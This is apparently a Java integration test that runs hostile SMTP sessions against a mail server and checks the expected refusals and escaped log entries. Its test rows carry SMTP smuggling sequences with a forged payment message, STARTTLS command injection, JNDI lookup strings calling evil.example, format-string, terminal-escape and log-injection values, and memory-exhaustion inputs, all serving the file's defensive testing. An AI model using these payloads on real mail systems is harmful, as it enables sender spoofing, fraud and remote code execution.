package org.sekisho.integration.attacks;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import org.sekisho.authentication.dns.Zone;
import org.sekisho.authentication.testing.LoopbackDnsServer;

/** Where a message ends, what comes back and into the log, and clients that stop. */
final class SessionAttacks implements Attacks {

    private static final String REFUSED = "550 5.7.26";
    private static final String OWN = "From: " + Sending.MAIL_FROM + "\r\nSubject: one\r\n\r\nHello.";
    private static final String ONE = "250, 221; INBOX: helo=pass spf=pass dkim=none dmarc=pass(evil.example) arc=none";
    private static final String SMUGGLED = "MAIL FROM:<" + Messages.VICTIM + ">\r\nRCPT TO:<user0@receiver.example>\r\n"
            + "DATA\r\nFrom: " + Messages.VICTIM + "\r\n\r\nPay now.";
    private static final String SLOW = ".held.example";
    private static final String EXPLAINED = ".text.evil.example";
    private static final List<String> EXPLANATIONS = List.of(
            "line\r\n250 2.0.0 accepted", "\u001b[2J\u001b]0;owned\u0007", "%%n%%s%%x ${jndi:ldap://evil.example/a}");

    @Override
    public void publish(Zone.Builder zone) {
        for (int i = 0; i < EXPLANATIONS.size(); i++) {
            zone.add("e" + i + EXPLAINED, "TXT", "v=spf1 exp=x" + i + EXPLAINED + " -all");
            zone.add("x" + i + EXPLAINED, "TXT", EXPLANATIONS.get(i));
        }
        zone.add("_dmarc.silent.example", "TXT", "!TIMEOUT");
    }

    @Override
    public void disturb(LoopbackDnsServer dns) {
        ends().stream()
                .map(Attack::answer)
                .map(answer -> answer.replaceAll(".*dmarc=none\\((.*)\\).*", "$1"))
                .filter(domain -> domain.endsWith(SLOW))
                .forEach(domain -> dns.delay("_dmarc." + domain, Duration.ofMillis(300)));
    }

    @Override
    public List<Attack> rows() {
        List<Attack> rows = new ArrayList<>();
        rows.addAll(ends());
        rows.addAll(texts());
        rows.addAll(stops());
        return rows;
    }

    private static List<Attack> ends() {
        String refusedByJames = "500 5.0.0";
        return List.of(
                end("\r.\r\n", ONE),
                end("\r\n.\r", ONE),
                end("\r.\r", ONE),
                end("\r\n\0.\r\n", ONE),
                end("\r\n.\0\r\n", ONE),
                end("\r\n..\r\n", ONE),
                end("\n.\n", refusedByJames),
                end("\n.\r\n", refusedByJames),
                end("\r\n.\n", refusedByJames),
                behind("STARTTLS\r\n", "454 4.7.0"),
                behind("\0STARTTLS\r\n", "454 4.7.0"),
                behind("DATA\r\nFrom: " + Messages.VICTIM + "\r\n\r\nPay now.\r\n.\r\n", "503 5.5.1"),
                behind("\0DATA\r\nFrom: " + Messages.VICTIM + "\r\n\r\nPay now.\r\n.\r\n", "503 5.5.1"));
    }

    private static Attack end(String end, String answer) {
        return new Attack(
                Section.END_OF_DATA,
                Markdown.code(Markdown.visible(end)) + " in the body, and behind it MAIL, RCPT, DATA and a message of "
                        + Markdown.code(Messages.VICTIM),
                new Victim.Told("a second message, which the sending server has vouched for"),
                new Sending.Session(true, OWN + end + SMUGGLED + "\r\n.\r\n"),
                answer);
    }

    /** In the same packet as the end of a message whose judgement takes a while. */
    private static Attack behind(String commands, String answer) {
        String domain = "held" + commands.length() + SLOW;
        boolean goesOn = answer.startsWith("454");
        return new Attack(
                Section.END_OF_DATA,
                "in one packet with the end of a message: " + Markdown.code(Markdown.visible(commands)),
                new Victim.Told("commands that were not encrypted, or a message that nobody vouched for"),
                new Sending.Session(true, "From: a@" + domain + "\r\n\r\nHello.\r\n.\r\n" + commands),
                "250, " + answer + (goesOn ? ", 221" : "") + "; INBOX: helo=pass spf=pass dkim=none dmarc=none("
                        + domain + ") arc=none");
    }

    private static List<Attack> texts() {
        List<Attack> rows = new ArrayList<>(List.of(
                text("HELO", "${jndi:ldap://evil.example/a}", "helo", "${jndi:ldap://evil.example/a}"),
                text("HELO", "%n%s%x", "helo", "%n%s%x"),
                text("HELO", "\u001b[2J", "helo", "\\x1b[2J"),
                text("HELO", "x\rjudged verdict=accept", "helo", "x\\x0djudged verdict=accept"),
                text("MAIL FROM", "\"\u001b[2J\"@evil.example", "mail-from", "<\\\"\\x1b[2J\\\"@evil.example>"),
                text(
                        "MAIL FROM",
                        "\"a verdict=accept\"@evil.example",
                        "mail-from",
                        "<\\\"a verdict=accept\\\"@evil.example>"),
                text("MAIL FROM", "\"${lower:%n}\"@evil.example", "mail-from", "<\\\"${lower:%n}\\\"@evil.example>"),
                signature("d=\u001b[2J.evil.example; s=key"),
                signature("d=evil.example; s=key verdict=accept"),
                signature("d=${jndi:ldap://evil.example/a}; s=%n"),
                signature("d=evil.example; s=key; i=\u001b]0;owned\u0007@evil.example")));
        for (int i = 0; i < EXPLANATIONS.size(); i++) {
            rows.add(new Attack(
                    Section.TEXTS,
                    "an explanation of SPF: " + Markdown.code(Markdown.visible(EXPLANATIONS.get(i))),
                    new Victim.Told("a reply or a log of the attacker's making"),
                    Messages.forged().mailFrom("eve@e" + i + EXPLAINED),
                    REFUSED));
            rows.add(new Attack(
                    Section.TEXTS,
                    "the same, where SPF refuses: " + Markdown.code(Markdown.visible(EXPLANATIONS.get(i))),
                    new Victim.Told("a reply or a log of the attacker's making"),
                    Sending.Mail.of(() -> Messages.from("me@hobby.example")).mailFrom("eve@e" + i + EXPLAINED),
                    "550 5.7.23"));
        }
        return rows;
    }

    private static Attack text(String where, String text, String key, String logged) {
        Sending.Mail mail = Messages.forged();
        return new Attack(
                Section.TEXTS,
                where + " " + Markdown.code(Markdown.visible(text)),
                new Victim.Told("a reply or a log of the attacker's making, or an address that is contacted"),
                new Sending.Logged(where.equals("HELO") ? mail.helo(text) : mail.mailFrom(text), key),
                REFUSED + ", logged as " + logged);
    }

    private static Attack signature(String tags) {
        return new Attack(
                Section.TEXTS,
                "DKIM-Signature: " + Markdown.code(Markdown.visible(tags)),
                new Victim.Told("a reply or a log of the attacker's making"),
                Messages.mail(() -> Messages.withHeader("DKIM-Signature: v=1; a=rsa-sha256; " + tags
                        + "; h=From; bh=AAAA; b=AAAA\r\nFrom: " + Messages.VICTIM)),
                REFUSED);
    }

    private static List<Attack> stops() {
        return List.of(
                stop(
                        "in the body, behind 64 KiB of header in the shortest fields",
                        true,
                        () -> "a:\r\n".repeat(16_384) + "\r\nHello",
                        384),
                stop("in the header, behind 64 KiB of it", true, () -> "a:\r\n".repeat(16_384), 384),
                stop(
                        "in the body, behind 64 KiB of it",
                        true,
                        () -> OWN + "\r\n" + "0123456789abcd\r\n".repeat(4096),
                        384),
                stop("in a line of 900 octets", true, () -> "x".repeat(900), 64),
                stop("after EHLO", false, () -> "EHLO mx.evil.example\r\n", 64),
                stop(
                        "behind \".\", where the DNS of the author is silent",
                        true,
                        () -> "From: a@silent.example\r\n\r\nHello.\r\n.\r\n",
                        96));
    }

    private static Attack stop(String where, boolean inData, Supplier<String> octets, int kibibytes) {
        return new Attack(
                Section.MEMORY,
                "clients that stop " + where,
                new Victim.Told("a server without memory"),
                new Sending.Stop(octets, inData, kibibytes),
                "at most " + kibibytes + " KiB of heap for each");
    }
}
